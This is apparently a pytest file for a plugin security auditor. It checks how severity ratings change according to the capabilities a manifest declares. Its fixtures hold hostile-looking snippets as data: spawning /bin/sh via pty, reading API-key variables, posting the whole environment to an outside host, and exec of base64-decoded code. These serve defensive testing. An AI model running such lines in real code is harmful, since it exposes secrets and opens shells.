"""Code against manifest: declared capabilities are information, hidden ones are refused."""

from __future__ import annotations

import textwrap

from wiseflow._policy._audit import audit_source
from wiseflow._policy._audit._declared import Declared

NOTHING = Declared()


def severity(source: str, rule: str, declared: Declared | None) -> str:
    """The severity of the first ``rule`` finding in ``source`` judged against ``declared``."""
    found = audit_source(textwrap.dedent(source), "plugin.py", declared)
    return next(s for r, s, _, _ in found if r == rule)


GIT = "import subprocess\nsubprocess.run(['git', 'log'], check=True)\n"
REQUESTS = "import requests\nr = requests.get('https://api.example.org/x')\n"


def test_undeclared_subprocess_is_high() -> None:
    """A literal git command in a plugin without subprocess = true is high."""
    assert severity(GIT, "subprocess", NOTHING) == "high"


def test_declared_subprocess_is_information() -> None:
    """The same command with subprocess = true is information."""
    assert severity(GIT, "subprocess", Declared(subprocess=True)) == "info"


def test_declaring_subprocess_does_not_cover_a_shell() -> None:
    """Spawning an interactive shell stays high even when subprocess is declared."""
    source = "import pty\npty.spawn('/bin/sh')\n"
    assert severity(source, "subprocess", Declared(subprocess=True)) == "high"


def test_undeclared_network_is_high() -> None:
    """HTTP without a network permission is high."""
    assert severity(REQUESTS, "network", NOTHING) == "high"


def test_declared_network_is_information() -> None:
    """HTTP in a plugin that declares a host is information."""
    assert severity(REQUESTS, "network", Declared(network=("api.example.org:443",))) == "info"


def test_declared_env_var_is_information() -> None:
    """Reading a variable listed in env = [...] is information."""
    source = "import os\nt = os.environ.get('GITHUB_TOKEN')\n"
    assert severity(source, "environment", Declared(env=("GITHUB_TOKEN",))) == "info"


def test_undeclared_env_var_is_medium_and_a_secret_high() -> None:
    """An undeclared variable is medium; an undeclared secret-named one is high."""
    assert severity("import os\nh = os.getenv('HOME')\n", "environment", NOTHING) == "medium"
    source = "import os\nk = os.environ['STRIPE_API_KEY']\n"
    assert severity(source, "environment", NOTHING) == "high"


def test_reading_outside_without_fs_read_is_medium() -> None:
    """An absolute path read with no fs_read is medium; with fs_read declared it stays low."""
    source = "data = open('/srv/data/x.csv').read()\n"
    assert severity(source, "file-access", NOTHING) == "medium"
    assert severity(source, "file-access", Declared(fs_read=("/srv/data",))) == "low"


def test_url_of_a_declared_host_is_low() -> None:
    """A webhook URL of a host the manifest declares is low, undeclared it keeps its rating."""
    source = "URL = 'https://hooks.slack.com/services/T0/B0/x'\n"
    assert severity(source, "suspicious-url", NOTHING) == "medium"
    declared = Declared(network=("hooks.slack.com:443",))
    assert severity(source, "suspicious-url", declared) == "low"


def test_declared_token_to_declared_host_is_low_but_the_environment_is_not() -> None:
    """Posting a declared variable to a declared host is low; posting os.environ stays critical."""
    token = "import os, requests\nrequests.post('https://a.io', data=os.environ['API_TOKEN'])\n"
    declared = Declared(network=("a.io:443",), env=("API_TOKEN",))
    assert severity(token, "exfiltration", NOTHING) == "critical"
    assert severity(token, "exfiltration", declared) == "low"
    dump = "import os, requests\nrequests.post('https://a.io', json=dict(os.environ))\n"
    assert severity(dump, "exfiltration", declared) == "critical"


def test_behaviours_keep_their_rating_whatever_is_declared() -> None:
    """Decode-then-exec is critical with every permission declared."""
    source = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    everything = Declared(("x:1",), ("A",), ("/",), True)
    assert severity(source, "dynamic-code", everything) == "critical"
